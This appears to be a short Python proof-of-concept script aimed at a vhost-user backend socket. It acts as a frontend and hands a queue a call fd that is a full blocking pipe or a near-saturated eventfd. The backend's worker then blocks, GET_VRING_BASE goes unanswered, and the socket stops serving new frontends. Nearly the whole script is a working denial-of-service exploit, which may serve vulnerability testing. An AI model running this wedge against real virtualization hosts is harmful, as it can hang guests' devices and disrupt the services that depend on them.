#!/usr/bin/env python3
"""Wedge an attachment: SET_VRING_CALL with a *blocking* pipe that is already full (or a blocking
eventfd at 0xfffffffffffffffe with MODE=eventfd). The queue worker blocks in write() when it
signals a completion; GET_VRING_BASE is then never answered, and after the frontend disconnects
the socket serves no new frontend while this process keeps the other end of the fd open.
usage: call_fd_wedge.py SOCK HOLD_SECONDS [pipe|eventfd]"""
import os, sys, time, fcntl
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from vu import *
sock, hold = sys.argv[1], float(sys.argv[2])
mode = sys.argv[3] if len(sys.argv) > 3 else "pipe"
ram = GuestRam(); fe = Frontend(sock); fe.negotiate(); fe.mem_table([ram.region()], [ram.fd])
q0 = Queue(ram, 0); q1 = Queue(ram, 1)
if mode == "pipe":
    r, w = os.pipe()
    fcntl.fcntl(w, fcntl.F_SETFL, os.O_NONBLOCK)
    try:
        while True: os.write(w, b"x" * 65536)
    except BlockingIOError: pass
    fcntl.fcntl(w, fcntl.F_SETFL, 0)
    q0.callfd = w
else:
    e = os.eventfd(0); os.eventfd_write(e, 0xfffffffffffffffe); q0.callfd = e
q0.start(fe); q1.start(fe)
print("q0 read completes in the used ring:", q0.read_ok(0), flush=True)
t = time.time()
fe.s.settimeout(5)
try:
    print("GET_VRING_BASE(0):", fe.get_vring_base(0), "in %.1fs" % (time.time() - t), flush=True)
except Exception as ex:
    print("GET_VRING_BASE(0): no answer: %r after %.1fs" % (ex, time.time() - t), flush=True)
fe.close()
print("frontend socket closed; holding the fd's other end for %.0fs" % hold, flush=True)
time.sleep(hold)
print("releasing", flush=True)
